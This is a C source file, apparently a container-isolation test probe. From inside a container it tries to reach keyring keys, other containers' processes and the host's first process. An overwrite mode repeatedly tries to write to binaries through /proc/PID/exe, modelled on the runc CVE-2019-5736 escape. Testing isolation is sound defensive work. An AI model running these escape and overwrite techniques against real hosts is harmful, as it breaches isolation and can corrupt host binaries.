/*
 * abroad: attacks on what is outside of the container, which somebody has put there: a process of another container, a key
 * of the caller's, the runtime's binary. As attack, it prints names and what has come of each.
 *
 *	abroad keep NAME PROGRAM [ARGUMENT...]	outside: executes a program in a session keyring with a key
 *	abroad neighbour PID			on a process of another container, in the machine's pid namespace
 *	abroad keys NAME			looks for the key
 *	abroad overwrite			writes to what processes of the container execute, until there is /stop
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>

#include "attack.h"

enum { KEY_SECONDS = 120, ORDINARY = 1000 };

static void print(const char *name, int err)
{
	printf("%s\t%s\n", name, err ? strerrorname_np(err) : "works");
	fflush(stdout);
}

static long add_key(const char *name, int keyring)
{
	long key = syscall(SYS_add_key, "user", name, "secret", 6, keyring);

	if (key < 0 || syscall(SYS_keyctl, KEYCTL_SET_TIMEOUT, key, KEY_SECONDS) < 0)
		return -1;
	return key;
}

/* Puts a key into the keyring of a user. Only who has that in its session keyring may say that the key is to expire. */
static int plant(const char *name, uid_t user)
{
	int status;
	pid_t pid = fork();

	if (pid == 0)
		_exit(setresuid(user, user, user) < 0 || syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, 0) < 0 ||
		      syscall(SYS_keyctl, KEYCTL_LINK, KEY_SPEC_USER_KEYRING, KEY_SPEC_SESSION_KEYRING) < 0 ||
		      add_key(name, KEY_SPEC_USER_KEYRING) < 0);
	return waitpid(pid, &status, 0) == pid && status == 0;
}

/* Keys in the keyring of the session, and in those of the users that a container's payload may be. */
static int keep(const char *name, char **command)
{
	if (!plant(name, 0) || !plant(name, ORDINARY) || syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, 0) < 0 ||
	    add_key(name, KEY_SPEC_SESSION_KEYRING) < 0) {
		fprintf(stderr, "abroad: no keys\n");
		return 2;
	}
	execvp(command[0], command);
	perror(command[0]);
	return 2;
}

static int search(const char *name, int keyring)
{
	return TRY(syscall(SYS_keyctl, KEYCTL_SEARCH, keyring, "user", name, 0));
}

static int keys(const char *name)
{
	print("key in the session keyring of the caller", search(name, KEY_SPEC_SESSION_KEYRING));
	print("key in the keyring of the user with the same number", search(name, KEY_SPEC_USER_KEYRING));
	return 0;
}

static pid_t victim;

static int signal_(void)
{
	return TRY(kill(victim, 0));
}

static int trace(void)
{
	return TRY(ptrace(PTRACE_SEIZE, victim, 0, 0));
}

static int root_directory(void)
{
	char path[64];

	snprintf(path, sizeof path, "/proc/%d/root/", victim);
	return TRY(open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC));
}

/* Joins a namespace of its, which takes the right to trace it and capabilities over the namespace. */
static int join(void)
{
	int fd = (int)syscall(SYS_pidfd_open, victim, 0);

	if (fd < 0)
		return errno;
	return TRY(syscall(SYS_setns, fd, CLONE_NEWUTS));
}

static int neighbour(const char *pid)
{
	victim = (pid_t)strtol(pid, 0, 10);
	print("process of another container: signal", in_child(0, signal_));
	print("process of another container: ptrace", in_child(0, trace));
	print("process of another container: its root directory", in_child(0, root_directory));
	print("process of another container: its namespaces", in_child(0, join));
	victim = 1;
	print("first process of the machine: signal", in_child(0, signal_));
	print("first process of the machine: its root directory", in_child(0, root_directory));
	print("first process of the machine: its namespaces", in_child(0, join));
	return 0;
}

/* Whether it is a program of the image, which other containers share, and whose damage would prove nothing. */
static int is_of_image(const struct stat *st)
{
	static const char *const programs[] = {"/proc/self/exe", "/bin/busybox", "/bin/probe"};
	struct stat own;

	for (size_t i = 0; i < sizeof programs / sizeof programs[0]; i++)
		if (stat(programs[i], &own) == 0 && own.st_ino == st->st_ino && own.st_dev == st->st_dev)
			return 1;
	return 0;
}

/*
 * Holds what a process executes, and tries for as long as that may be executed (ETXTBSY) to open it for writing, as was done
 * to runc (CVE-2019-5736).
 */
static void overwrite_exe(const char *pid)
{
	char path[300];
	struct stat st;

	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	int held = open(path, O_RDONLY | O_CLOEXEC);
	if (held < 0)
		return;
	if (fstat(held, &st) == 0 && !is_of_image(&st)) {
		snprintf(path, sizeof path, "/proc/self/fd/%d", held);
		for (int i = 0; i < 20000; i++) {
			int fd = open(path, O_WRONLY | O_CLOEXEC);
			if (fd >= 0) {
				(void)!write(fd, "overwritten", 11);
				close(fd);
				break;
			}
			if (errno != ETXTBSY)
				break;
		}
	}
	close(held);
}

static int overwrite(void)
{
	while (access("/stop", F_OK) < 0) {
		DIR *proc = opendir("/proc");
		struct dirent *e;

		if (!proc)
			return 2;
		while ((e = readdir(proc)))
			if (strspn(e->d_name, "0123456789") == strlen(e->d_name))
				overwrite_exe(e->d_name);
		closedir(proc);
	}
	return 0;
}

int main(int argc, char **argv)
{
	if (argc > 3 && !strcmp(argv[1], "keep"))
		return keep(argv[2], argv + 3);
	if (argc == 3 && !strcmp(argv[1], "neighbour"))
		return neighbour(argv[2]);
	if (!is_contained()) {
		fprintf(stderr, "abroad: not in a container, and so not done\n");
		return 2;
	}
	if (argc == 3 && !strcmp(argv[1], "keys"))
		return keys(argv[2]);
	if (argc == 2 && !strcmp(argv[1], "overwrite"))
		return overwrite();
	return 2;
}
